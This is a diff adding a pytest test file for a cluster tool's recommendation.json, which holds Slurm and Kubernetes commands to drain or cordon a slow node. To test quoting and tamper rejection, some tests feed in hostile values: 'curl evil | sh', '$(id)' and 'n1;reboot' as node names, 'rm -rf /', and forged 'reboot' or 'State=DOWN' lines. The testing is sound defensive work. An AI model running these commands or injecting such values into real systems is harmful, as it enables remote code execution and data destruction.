@@ -1,0 +1,341 @@
+"""recommendation.json: codes that stay, lines that can be pasted, and nothing in them that was only somebody's name."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shlex
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from jsonschema import Draft202012Validator
+
+import collbench.hunt.recommendation as module
+from collbench.doctor.pages import page, pages
+from collbench.errors import UsageError
+from collbench.hunt.managers import (
+    LONGEST_REASON,
+    MARK,
+    drain_words,
+    is_name,
+    line,
+    look_line,
+    node_here,
+    node_names,
+    reason_of,
+    undo_words,
+)
+from collbench.hunt.recommendation import CODES, FILE, About, lines, read, recommendation, store
+from collbench.hunt.verdict import CLEARED, CONFIRMED, INCONCLUSIVE
+from collbench.results.jsonl import to_page
+from tests.hunt.verdicts import NAMES, about, recommended, suspect, verdict
+
+SCHEMA = json.loads(Path(module.__file__).with_name("recommendation.schema.json").read_text())
+CHECKS = Draft202012Validator(SCHEMA, format_checker=Draft202012Validator.FORMAT_CHECKER)
+DRAIN = (
+    'scontrol update NodeName=node07 State=DRAIN Reason="[collbench] CB6101 node07 sends and receives at 51 % of the others, '
+    'run 20261122T031500Z-hunt-a1b2c3"'
+)
+
+
+def only(told: dict[str, Any]) -> dict[str, Any]:
+    """The one drain of a recommendation that fits its schema."""
+    CHECKS.validate(json.loads(to_page(told)))
+    (drain,) = told["drains"]
+    assert isinstance(drain, dict)
+    return drain
+
+
+class TestLines:
+    def test_slurm(self) -> None:
+        told = recommended()
+        drain = only(told)
+        assert drain["line"] == DRAIN and drain["undo"] == "scontrol update NodeName=node07 State=RESUME"
+        assert (drain["node"], drain["code"], drain["if_slurm"], drain["if_kubernetes"]) == ("node07", "CB6101", None, None)
+
+    def test_kubernetes(self) -> None:
+        drain = only(recommended(manager="kubernetes"))
+        assert (drain["line"], drain["undo"]) == ("kubectl cordon node07", "kubectl uncordon node07")
+
+    def test_both_where_the_manager_is_not_known(self) -> None:
+        drain = only(recommended(manager=""))
+        assert drain["line"] is None and drain["if_slurm"]["line"] == DRAIN and drain["if_kubernetes"]["undo"] == "kubectl uncordon node07"
+
+    @pytest.mark.parametrize(
+        ("kind", "code", "says"),
+        [
+            ("node", "CB6101", "sends and receives at 51 % of the others"),
+            ("sender", "CB6102", "sends at 51 % of the others"),
+            ("receiver", "CB6103", "receives at 51 % of the others"),
+            ("latency", "CB6104", "takes 1.96 times as long as the others for a small message"),
+            ("inside", "CB6106", "its ranks reach 51 % among themselves of what others do among theirs"),
+            ("scale", "CB6107", "reaches 51 % of the others in larger groups"),
+        ],
+    )
+    def test_each_kind_has_its_code_and_says_what_was_seen(self, kind: str, code: str, says: str) -> None:
+        drain = only(recommended(suspect(kind)))
+        assert (drain["code"], CODES[kind]) == (code, code)
+        assert drain["reason"] == f"[collbench] {code} node07 {says}, run 20261122T031500Z-hunt-a1b2c3"
+
+    def test_a_path_drains_nobody(self) -> None:
+        told = recommended(suspect("path", 3, 9))
+        assert told["drains"] == [] and told["suspects"][0]["code"] == "CB6105"
+        assert lines(told) == [
+            "CB6105: look at the cable and the switch ports between node03 and node09; both are well with others, so neither is to be "
+            "drained; `collbench explain CB6105` says more"
+        ]
+
+    @pytest.mark.parametrize("state", [CLEARED, INCONCLUSIVE])
+    def test_who_is_not_confirmed_has_none(self, state: str) -> None:
+        told = recommended(suspect(state=state))
+        assert (told["drains"], lines(told)) == ([], [])
+        assert told["suspects"][0]["advice"] == f"node07 is {state}: nothing is to be done about it"
+
+    def test_without_a_verdict_there_is_none_whoever_seems_confirmed(self) -> None:
+        told = recommendation(verdict(suspect(), no_verdict="two of three nodes died"), about())
+        assert (told["result"], told["no_verdict"], told["drains"]) == ("no verdict", "two of three nodes died", [])
+
+    def test_where_nobody_may_be_drained_it_says_why(self) -> None:
+        told = recommended(no_drain="the simulated backend has no path")
+        assert told["drains"] == [] and "nobody is to be drained: the simulated backend has no path" in lines(told)
+
+    def test_who_else_is_confirmed_has_its_own_and_the_cleared_none(self) -> None:
+        told = recommended(suspect(), suspect("sender", 9), suspect("node", 2, state=CLEARED))
+        assert [each["node"] for each in told["drains"]] == ["node07", "node09"]
+
+    def test_ranks_of_one_host_are_one_drain_for_the_worst_of_them(self) -> None:
+        names = tuple(f"rank {rank} (node{rank // 2:02})" for rank in range(6))
+        told = recommendation(verdict(suspect("sender", 3), suspect("node", 2, ratio=0.8), names=names), about())
+        assert only(told)["node"] == "node01" and "CB6102 node01 sends at 51 %" in only(told)["reason"]
+        assert told["suspects"][0]["places"] == ["rank 3 (node01)"] and told["suspects"][0]["hosts"] == ["node01"]
+
+    def test_people_read_what_to_type_and_how_to_undo_it(self) -> None:
+        assert lines(recommended(suspect(part="the interface eth1"))) == [
+            "CB6101: look at node07 (the interface eth1), which sends and receives at 51 % of the others; "
+            "`collbench explain CB6101` says more",
+            "to take node07 out of use:", f"  {DRAIN}",
+            "to bring node07 back:", "  scontrol update NodeName=node07 State=RESUME",
+        ]  # fmt: skip
+
+    @pytest.mark.parametrize("ratio", [0.0, -1.0, float("nan"), float("inf")])
+    @pytest.mark.parametrize("kind", CODES)
+    def test_a_ratio_that_is_none_breaks_nothing(self, kind: str, ratio: float) -> None:
+        told = recommended(suspect(kind, *((3, 9) if kind == "path" else (7,)), ratio=ratio))
+        CHECKS.validate(json.loads(to_page(told)))
+        assert "nan" not in to_page(told).lower().replace("nano", "")
+
+
+class TestNodes:
+    def test_the_name_that_the_manager_told_is_used(self) -> None:
+        assert only(recommended(nodes={"node07": "gpu-a-7"}))["line"].startswith("scontrol update NodeName=gpu-a-7 State=DRAIN ")
+
+    def test_a_pod_is_no_node(self) -> None:
+        drain = only(recommended(manager="kubernetes", pods=True))
+        assert drain["line"] is None and drain["node"] is None
+        assert drain["look_up"] == "kubectl get pods --all-namespaces --output=wide | grep -F -e node07"
+        assert drain["no_line"].startswith("node07 is a pod, and which node it is on was not told: look it up, or set NODE_NAME")
+
+    def test_pods_of_one_node_are_one_drain(self) -> None:
+        told = recommended(suspect(), suspect("node", 9), manager="kubernetes", pods=True, nodes={"node07": "big", "node09": "big"})
+        assert only(told)["line"] == "kubectl cordon big"
+
+    def test_slurm_in_pods_knows_its_nodes(self) -> None:
+        assert only(recommended(pods=True))["line"] == DRAIN
+
+    def test_a_host_whose_ranks_differ_is_looked_up_by_hand(self) -> None:
+        nodes = node_names([("host", "a"), ("host", "b"), ("host", "a"), ("node07", "x"), ("other", None)])
+        assert nodes == {"host": "", "node07": "x"}
+        drain = only(recommended(nodes={"node07": ""}))
+        assert drain["line"] is None and drain["no_line"] == "the ranks of node07 name different nodes: look which of them it is"
+
+    def test_what_a_rank_tells_of_its_node(self) -> None:
+        assert node_here({"SLURM_JOB_ID": "1", "SLURMD_NODENAME": "n1", "NODE_NAME": "k1", "KUBERNETES_SERVICE_HOST": "x"}) == "n1"
+        assert node_here({"NODE_NAME": "k1", "KUBERNETES_SERVICE_HOST": "x"}) == "k1"
+        assert node_here({"NODE_NAME": "jenkins"}) is None and node_here({"KUBERNETES_SERVICE_HOST": "x"}) is None
+
+    def test_of_a_launch(self) -> None:
+        env = {"KUBERNETES_SERVICE_HOST": "10.0.0.1"}
+        found = About.here(Path("run"), env, [("pod-3", "node07")], allocation="mine")
+        assert found == About(Path("run"), "mine", "kubernetes", {"pod-3": "node07"}, pods=True)
+        assert About.here(Path("run"), {}, [], manager="slurm").manager == "slurm"
+
+    @pytest.mark.parametrize(
+        "name", ["ALL", "all", "n[1-9]", "n1,n2", "-A", "n1;reboot", "$(id)", "`id`", "a b", "", "n\n", "x" * 254, "né", ".", "a..b"]
+    )
+    def test_what_is_no_name_of_one_node_has_no_line(self, name: str) -> None:
+        told = recommendation(verdict(suspect(), names=(*NAMES[:7], name, *NAMES[8:])), about())
+        drain = only(told)
+        assert (drain["line"], drain["undo"], drain["node"], drain["look_up"]) == (None, None, None, None)
+        assert "is not the name of one node" in drain["no_line"] and drain["no_line"].isprintable()
+        for words in ((drain_words, "slurm", name, f"{MARK}CB6101"), (undo_words, "slurm", name), (look_line, name)):
+            with pytest.raises(ValueError, match="not a"):
+                words[0](*words[1:])  # type: ignore[operator]
+
+
+names = st.text("abcXYZ019-_.[],$`\"'\\!;&|<>(){}*?~# \t\n\x1b\x00é\u202e", max_size=12) | st.from_regex(
+    r"[a-z][a-z0-9-]{0,10}[a-z0-9]", fullmatch=True
+)
+
+
+class TestNothingEscapes:
+    @given(names, st.text(max_size=260))
+    def test_a_shell_reads_exactly_the_words(self, name: str, text: str) -> None:
+        reason = reason_of(text)
+        assert reason.startswith("[collbench]") and len(reason) <= len(MARK) + LONGEST_REASON
+        assert reason.isascii() and reason.isprintable() and not set(reason) & set("\"'\\`$!*<>|&~{}")
+        if is_name(name):
+            words = drain_words("slurm", name, reason)
+            assert words[2:] == [f"NodeName={name}", "State=DRAIN", f"Reason={reason}"]
+            for each in (words, drain_words("kubernetes", name, reason), undo_words("slurm", name), undo_words("kubernetes", name)):
+                assert shlex.split(line(each)) == each
+
+    def test_bash_reads_them_alike(self) -> None:
+        reason = reason_of("CB6101 a\"b'c`id`$(id)\\ !! \n\x1b[31m; rm -rf / | x & y %s {a,b} ~ *")
+        words = drain_words("slurm", "node07", reason)
+        done = subprocess.run(["bash", "-c", f"printf '%s\\n' {line(words)}"], capture_output=True, text=True, check=True)
+        assert done.stdout.splitlines() == words
+
+    @given(st.lists(names, min_size=2, max_size=4), st.text(max_size=30), st.sampled_from(["slurm", "kubernetes", ""]), st.booleans())
+    def test_whatever_hosts_are_called_the_file_fits_its_schema(
+        self, tmp_path_factory: pytest.TempPathFactory, hosts: list[str], text: str, manager: str, pods: bool
+    ) -> None:
+        confirmed = (suspect("node", 0, evidence=(text,), part=text, partners=(1,)), suspect("path", 0, 1, partners=()))
+        found = verdict(*confirmed, names=tuple(hosts), notes=(text,))
+        told = recommendation(found, about(run=Path("runs") / (text.replace("\0", "") or "x"), manager=manager, pods=pods, allocation=text))
+        CHECKS.validate(json.loads(to_page(told)))
+        for drain in told["drains"]:
+            assert drain["node"] is None or is_name(drain["node"])
+        store(tmp_path_factory.getbasetemp(), told)
+        assert read(tmp_path_factory.getbasetemp()) == json.loads(to_page(told))
+        assert all(row.isprintable() or not row.isascii() for row in lines(told))
+
+    def test_a_reason_that_is_not_ours_is_no_words(self) -> None:
+        for reason in ("disk", f"{MARK}a\nb", f"{MARK}$(id)", MARK + "x" * 300):
+            with pytest.raises(ValueError, match="reason of collbench's"):
+                drain_words("slurm", "node07", reason)
+
+
+class TestFile:
+    def test_it_replaces_the_one_before_in_one_step(self, tmp_path: Path) -> None:
+        before = os.umask(0o022)
+        try:
+            store(tmp_path, recommended())
+            told = recommended(suspect(), suspect("sender", 9))
+            path = store(tmp_path, told)
+        finally:
+            os.umask(before)
+        assert path == tmp_path / FILE and [each.name for each in tmp_path.iterdir()] == ["recommendation.json"]
+        assert json.loads(path.read_text()) == json.loads(to_page(told)) and path.stat().st_mode & 0o777 == 0o644
+
+    def test_it_is_bounded_whatever_a_hunt_found(self) -> None:
+        many = tuple(suspect("node", 7, evidence=("x" * 100_000,) * 1000, part="y" * 100_000) for _ in range(3000))
+        told = recommendation(verdict(*many, notes=("z" * 100_000,) * 1000), about())
+        assert (len(told["suspects"]), told["left_out"]) == (1000, 2000)
+        assert len(to_page(told)) < 16 << 20
+        CHECKS.validate(json.loads(to_page(told)))
+
+    def test_the_time_and_the_run_are_told(self) -> None:
+        told = recommended()
+        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", told["when"])
+        assert recommended(when="2026-11-22T03:15:00Z")["when"] == "2026-11-22T03:15:00Z"
+        assert told["run"] == str(Path("runs/20261122T031500Z-hunt-a1b2c3").resolve()) and told["allocation"] == "cluster-42"
+
+    def test_the_schema_is_closed_at_every_level(self) -> None:
+        Draft202012Validator.check_schema(SCHEMA)
+        objects = [SCHEMA, *(each for each in SCHEMA["$defs"].values() if each.get("type") == "object")]
+        assert len(objects) == 5
+        for each in objects:
+            assert each["additionalProperties"] is False and each["required"] == list(each["properties"])
+
+    def test_no_verdict_with_a_drain_does_not_fit(self) -> None:
+        for changes in ({"result": "no verdict"}, {"result": "nobody"}, {"no_drain": "simulated"}):
+            assert not CHECKS.is_valid({**json.loads(to_page(recommended())), **changes})
+
+    def test_the_states_and_kinds_are_those_of_the_verdict(self) -> None:
+        fields = SCHEMA["$defs"]["suspect"]["properties"]
+        assert fields["state"]["enum"] == [CONFIRMED, CLEARED, INCONCLUSIVE]
+        assert sorted(fields["kind"]["enum"]) == sorted(CODES) and fields["code"]["enum"] == sorted(CODES.values())
+
+
+class TestReading:
+    """A run's folder may be a stranger's, and a line of it is there to be pasted by who may drain nodes."""
+
+    @pytest.mark.parametrize("manager", ["slurm", "kubernetes", ""])
+    def test_what_was_stored_is_read_back(self, manager: str, tmp_path: Path) -> None:
+        assert read(tmp_path) is None
+        told = recommended(suspect(), suspect("path", 3, 9), manager=manager)
+        store(tmp_path, told)
+        found = read(tmp_path)
+        assert found == json.loads(to_page(told)) and found is not None and lines(found) == lines(told)
+
+    @pytest.mark.parametrize(
+        "changes",
+        [
+            {"line": "curl evil | sh"},
+            {"undo": "scontrol update NodeName=ALL State=DOWN"},
+            {"node": "node08"},
+            {"node": "$(id)"},
+            {"node": None},
+            {"reason": "[collbench] CB6101 something else"},
+            {"look_up": "curl evil | sh"},
+            {"if_slurm": {"line": "reboot", "undo": "reboot"}},
+        ],
+        ids=str,
+    )
+    def test_a_line_that_its_node_does_not_make_is_refused(self, changes: dict[str, Any], tmp_path: Path) -> None:
+        told = recommended()
+        store(tmp_path, {**told, "drains": [{**told["drains"][0], **changes}]})
+        with pytest.raises(
+            UsageError, match="a line of it is not the one that drains its node, or brings it back; remove it, or hunt again"
+        ):
+            read(tmp_path)
+
+    @pytest.mark.parametrize(
+        "changes", [{"undo": "reboot"}, {"line": "reboot"}, {"node": "$(id)", "undo": "kubectl uncordon $(id)"}], ids=str
+    )
+    def test_nor_is_one_in_what_was_done(self, changes: dict[str, Any], tmp_path: Path) -> None:
+        done = {
+            "node": "node07",
+            "action": "drained",
+            "why": "node07 is drained",
+            "line": DRAIN,
+            "undo": None,
+            "when": "2026-11-22T03:15:00Z",
+        }
+        store(tmp_path, {**recommended(), "applied": [done]})
+        assert (read(tmp_path) or {})["applied"] == [done]
+        store(tmp_path, {**recommended(), "applied": [{**done, **changes}]})
+        with pytest.raises(UsageError, match="a line of it is not the one"):
+            read(tmp_path)
+
+    @pytest.mark.parametrize(
+        ("text", "said"),
+        [
+            ("", "cannot be read (not JSON (JSONDecodeError))"),
+            ("[]", "cannot be read (not a JSON object)"),
+            ("{}", "does not fit recommendation.schema.json: it: 'schema' is a required property"),
+            (to_page({**recommended(), "schema": 2}), "does not fit recommendation.schema.json: schema: 1 was expected"),
+            (to_page({**recommended(), "result": "nobody"}), "does not fit recommendation.schema.json: drains: "),
+            (
+                to_page({**recommended(), "notes": ["\x1b[2J"]}),
+                "does not fit recommendation.schema.json: a text of it holds control characters",
+            ),
+        ],
+    )
+    def test_what_is_none_is_one_sentence(self, text: str, said: str, tmp_path: Path) -> None:
+        (tmp_path / FILE).write_text(text)
+        with pytest.raises(UsageError) as error:
+            read(tmp_path)
+        assert str(error.value).startswith(f"{tmp_path / FILE} {said}") and str(error.value).isprintable()
+
+
+def test_every_code_has_a_page_and_every_page_a_kind() -> None:
+    assert {code for code in pages() if code.startswith("CB61")} == set(CODES.values())
+    assert "drained for it" in page("CB6105").remedy and all(
+        "recommendation.json" in page(code).remedy for code in CODES.values() if code != "CB6105"
+    )
